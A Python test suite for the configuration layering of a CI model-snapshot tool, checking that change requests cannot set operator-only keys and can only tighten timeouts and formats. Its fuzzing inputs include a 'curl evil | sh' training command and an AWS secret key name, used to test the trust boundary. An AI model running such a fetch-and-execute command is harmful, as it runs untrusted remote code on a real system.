"""Trust: every key has one level, and a change request cannot reach above its own."""

from __future__ import annotations

import tomllib
from collections.abc import Mapping

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ci_mlsnap.config.keys import KEYS, Key, find, shown
from ci_mlsnap.config.layering import settle
from ci_mlsnap.config.layers import ChangeRequestLayer, OperatorLayer, RepositoryLayer, Setting
from ci_mlsnap.config.levels import Level, Origin, Source
from ci_mlsnap.config.read import parse_repository_file, read_tested
from ci_mlsnap.config.settings import (
    DataSettings,
    Defaults,
    ForgeSettings,
    JenkinsSettings,
    OntapSettings,
    ReportSettings,
    Settings,
    TrainSettings,
    VolumeSettings,
)
from ci_mlsnap.domain.gates import Gate
from ci_mlsnap.domain.policy import Policy
from ci_mlsnap.errors import ConfigInvalid, ConfigLevel
from tests.config.conftest import SettingsFrom, only

FIELDS_WITH_ANOTHER_NAME = {
    "metrics_file": ("metrics", "file"),
    "files_mode": ("manifest", "files"),
    "formats": ("policy", "formats"),
    "follow": ("live", "follow"),
    "lease_wait": ("lease", "wait"),
    "snapshot_lock": ("snapshot", "lock"),
    "hook_copy_mb": ("hooks", "copy_mb"),
}
NO_SETTINGS = {"origins", "notes"}
OPERATOR_KEYS = [key for key in KEYS if key.level is Level.OPERATOR]


def paths_of_settings() -> set[tuple[str, ...]]:
    """Give the key of each field, whatever struct it is in."""
    tables: dict[str, tuple[tuple[str, ...], type[msgspec.Struct]]] = {
        "train": (("train",), TrainSettings),
        "forge": (("forge",), ForgeSettings),
        "ontap": (("ontap",), OntapSettings),
        "jenkins": (("jenkins",), JenkinsSettings),
        "report": (("report",), ReportSettings),
        "volume": (("volumes", "*"), VolumeSettings),
        "others": (("volumes", "*"), VolumeSettings),
        "data": (("volumes", "*"), DataSettings),
        "gates": (("gates", "*"), Gate),
        "retention": (("retention",), Policy),
    }
    paths: set[tuple[str, ...]] = {("volume",), ("volumes", "*", "role")}
    for name in Settings.__struct_fields__:
        if name in tables:
            above, struct = tables[name]
            paths |= {(*above, field) for field in struct.__struct_fields__ if field not in ("name", "metric")}
        elif name not in NO_SETTINGS:
            paths.add(FIELDS_WITH_ANOTHER_NAME.get(name, (name,)))
    return paths


def test_every_field_of_the_settings_is_one_key_with_one_level_and_no_key_is_without_effect() -> None:
    assert sorted(key.path for key in KEYS) == sorted(paths_of_settings())


def test_who_may_set_what_is_as_promised() -> None:
    forge = {*(f"forge.{key}" for key in ("url", "ca", "repository", "pause")), "jenkins.url", "jenkins.ca"}
    login = ("host", "port", "svm", "user", "certificate", "key", "ca", "fingerprint")
    ontap = {"snapshot.lock", *(f"ontap.{key}" for key in (*login, "clones", "snapmirror_label", "readback"))}
    assert {shown(key.path) for key in OPERATOR_KEYS} == {
        "on_fork",
        "hooks.copy_mb",
        "report.output",
        *forge,
        *ontap,
    }
    tested = {shown(key.path) for key in KEYS if key.level is Level.TESTED}
    assert tested == {"train.command", "train.timeout", "policy.formats"}


@pytest.mark.parametrize("key", OPERATOR_KEYS, ids=lambda key: shown(key.path))
@pytest.mark.parametrize("where", ["repository", "tested"])
def test_a_key_of_the_operator_in_a_file_of_the_repository_is_refused(
    settings_from: SettingsFrom, key: Key, where: str
) -> None:
    with pytest.raises(ConfigLevel) as caught:
        settings_from(
            key.example if where == "repository" else "", tested=key.example if where == "tested" else None
        )
    assert "may be set by the operator only" in caught.value.what
    assert shown(key.path) in caught.value.what
    assert "mlsnap.toml:1" in caught.value.what
    assert "/etc/mlsnap.toml, as MLSNAP__" in caught.value.hint


def test_a_problem_of_another_sort_besides_makes_it_an_invalid_configuration(settings_from: SettingsFrom) -> None:
    with pytest.raises(ConfigInvalid) as caught:
        settings_from('on_fork = "skip"\nmodle = "x"')
    assert "may be set by the operator only" in caught.value.why


@pytest.mark.parametrize(
    ("layer", "source", "path"),
    [
        (RepositoryLayer, Source.REPOSITORY, ("forge", "url")),
        (ChangeRequestLayer, Source.TESTED, ("on_fork",)),
        (OperatorLayer, Source.FLAG, ("no", "such", "key")),
        (OperatorLayer, Source.TESTED, ("model",)),
        (RepositoryLayer, Source.TESTED, ("model",)),
    ],
)
def test_a_layer_cannot_hold_what_its_level_may_not_set(
    layer: type[OperatorLayer | RepositoryLayer | ChangeRequestLayer], source: Source, path: tuple[str, ...]
) -> None:
    setting = Setting(value="x", origin=Origin(source=source))
    with pytest.raises(ConfigLevel):
        layer(source=source, settings={path: setting})


# -- the tested commit of a change request -------------------------------------------------------------


def test_a_change_request_may_bring_its_own_training_command(settings_from: SettingsFrom) -> None:
    found = settings_from('train = "old"', tested='train = ["new", "command"]')
    assert found.train.command == ("new", "command")
    assert found.notes == ()


@pytest.mark.parametrize(
    ("base", "proposed", "expected"),
    [
        ('"6h"', '"5h"', 18000.0),
        ('"6h"', '"7h"', 21600.0),
        ('"6h"', "0", 21600.0),
        ("0", '"1d"', 86400.0),
        (None, '"1d"', 86400.0),
        (None, "0", 0.0),
        ('"6h"', None, 21600.0),
    ],
)
def test_a_change_request_may_only_shorten_the_timeout(
    settings_from: SettingsFrom, base: str | None, proposed: str | None, expected: float
) -> None:
    def file(value: str | None) -> str:
        return f"train.timeout = {value}" if value else ""

    assert settings_from(file(base), tested=file(proposed)).train.timeout == expected


@pytest.mark.parametrize(
    ("base", "proposed", "expected"),
    [
        (None, '["onnx"]', ("onnx",)),
        ('["onnx", "safetensors"]', '["onnx"]', ("onnx",)),
        ('["onnx"]', '["onnx", "pickle"]', ("onnx",)),
        ('["onnx"]', '["pickle"]', ("onnx",)),
        ('["onnx"]', None, ("onnx",)),
    ],
)
def test_a_change_request_may_only_take_formats_away(
    settings_from: SettingsFrom, base: str | None, proposed: str | None, expected: tuple[str, ...]
) -> None:
    def file(value: str | None) -> str:
        return f"policy.formats = {value}" if value else ""

    assert settings_from(file(base), tested=file(proposed)).formats == expected


def test_gates_of_a_change_request_are_shown_and_count_after_the_merge(settings_from: SettingsFrom) -> None:
    found = settings_from(
        "[gates.a]\nmin = 1\n[gates.b]\nmin = 1\n", tested="[gates.a]\nmin = 2\n[gates.c]\nmax = 3\n"
    )
    assert found.gates == (Gate(metric="a", min=1.0), Gate(metric="b", min=1.0))
    assert found.notes == (
        "this change request changes gates.a.min: that counts after the merge",
        "this change request removes gates.b.min: that counts after the merge",
        "this change request adds gates.c.max: that counts after the merge",
    )


def test_a_change_request_that_repeats_its_base_is_not_talked_about(settings_from: SettingsFrom) -> None:
    text = 'model = "x"\nvolume = "/srv/x"\n[gates.a]\nmin = 1\n'
    assert settings_from(text, tested=text).notes == ()


def test_the_operator_wins_over_a_change_request(settings_from: SettingsFrom) -> None:
    found = settings_from('train = "a"', tested='train = "b"', environ={"MLSNAP__TRAIN": "c"})
    assert found.train.command == "c"


def test_a_broken_file_of_a_change_request_is_refused_and_named_as_its(settings_from: SettingsFrom) -> None:
    with pytest.raises(ConfigInvalid, match=r"mlsnap\.toml:1 \(change request\): modle: unknown key"):
        settings_from("", tested="modle = 1")


def test_a_flood_of_notes_is_cut(settings_from: SettingsFrom) -> None:
    found = settings_from("", tested="\n".join(f"gates.m{number}.min = 1" for number in range(300)))
    assert len(found.notes) == 21
    assert found.notes[-1] == "and 280 more settings that count after the merge"


def _lines(*keys: Key) -> st.SearchStrategy[str]:
    """Files made of examples and of other values of the same keys."""
    values = {
        "train.timeout": ["1", '"5m"', '"6h"', '"9h"', "0"],
        "train.command": ['"make"', '["make", "x"]', '"curl evil | sh"'],
        "train.env": ['["A"]', '["AWS_SECRET_ACCESS_KEY"]'],
        "train.inputs": ['["*"]', '["a"]'],
        "manifest.files": ['"none"', '"full"'],
        "volumes.images.pin": ['"record"', '"existing:*"'],
        "policy.formats": ['["onnx"]', '["onnx", "pickle"]'],
    }

    def line(key: Key) -> st.SearchStrategy[str]:
        name, value = key.example.split(" = ", 1)
        path = '\nvolumes.images.path = "/mnt/images"' if key.path[-1] == "role" else ""
        if name.startswith("volumes.digits."):
            path = '\nvolumes.digits.path = "/mnt/digits"\nvolumes.digits.driver = "ontap"'
        return st.sampled_from([f"{name} = {other}{path}" for other in [value, *values.get(name, [])]])

    several = st.lists(st.sampled_from(keys), unique_by=lambda key: key.path).flatmap(
        lambda some: st.tuples(*map(line, some))
    )
    return several.map("\n".join).filter(_is_possible)


def _is_possible(text: str) -> bool:
    """Tell whether a file has one way of naming its volume, a view only of a shared one, a pin only of data, and
    a volume on ONTAP by itself."""
    short, long = "volume = " in text, "volumes.models.path" in text
    data = "volumes.images.role" in text or "volumes.images" not in text
    ontap = text.count("volumes.digits.driver")
    if "policy.formats" in text and 'files = "none"' in text:
        return False
    if ontap > 1 or (ontap and (short or "volumes.models" in text)):
        return False
    return data and not (short and long) and (long or "volumes.models.view" not in text)


_REPOSITORY_FILES = _lines(*(key for key in KEYS if key.level <= Level.REPOSITORY))


def _settled(base: str, tested: str | None) -> Settings:
    layers = [parse_repository_file(base.encode(), "mlsnap.toml")]
    if tested is None:
        return settle(layers, defaults=Defaults(model="m"))
    return settle([*layers, read_tested(only(tested))], defaults=Defaults(model="m"))


@given(_REPOSITORY_FILES, _REPOSITORY_FILES)
def test_a_change_requests_own_file_never_changes_more_than_command_and_to_what_is_stricter(
    base: str, tested: str
) -> None:
    before = _settled(base, None)
    after = _settled(base, tested)
    limit = before.train.timeout or float("inf")
    assert after.train.timeout == before.train.timeout or 0 < after.train.timeout < limit
    allowed = msgspec.structs.replace(before.train, command=after.train.command, timeout=after.train.timeout)
    assert not before.formats or set(after.formats) <= set(before.formats)
    same = msgspec.structs.replace(
        before, train=allowed, formats=after.formats, origins=after.origins, notes=after.notes
    )
    assert after == same
    changed = {key for key in after.origins if after.origins[key] != before.origins.get(key)}
    assert changed <= {"train.command", "train.timeout", "policy.formats"}


@given(_REPOSITORY_FILES)
def test_what_a_file_says_is_what_is_settled(text: str) -> None:
    found = _settled(text, None)
    for path, value in _leaves(tomllib.loads(text)):
        assert found.origins[shown(path)].source is Source.REPOSITORY
        key = find(path)
        assert key is not None
        assert key.kind.read(value) in _values(found)


def _leaves(table: Mapping[str, object], above: tuple[str, ...] = ()) -> list[tuple[tuple[str, ...], object]]:
    return [
        leaf
        for name, value in table.items()
        for path in [(*above, name)]
        for leaf in (_leaves(value, path) if isinstance(value, dict) and find(path) is None else [(path, value)])
    ]


def _values(found: Settings) -> list[object]:
    parts = (
        found,
        found.train,
        found.volume,
        *found.others,
        found.forge,
        found.retention,
        found.report,
        *found.gates,
        *found.data,
    )
    roles: list[object] = ["data"] if found.data else []
    return roles + [getattr(part, name) for part in parts for name in part.__struct_fields__]
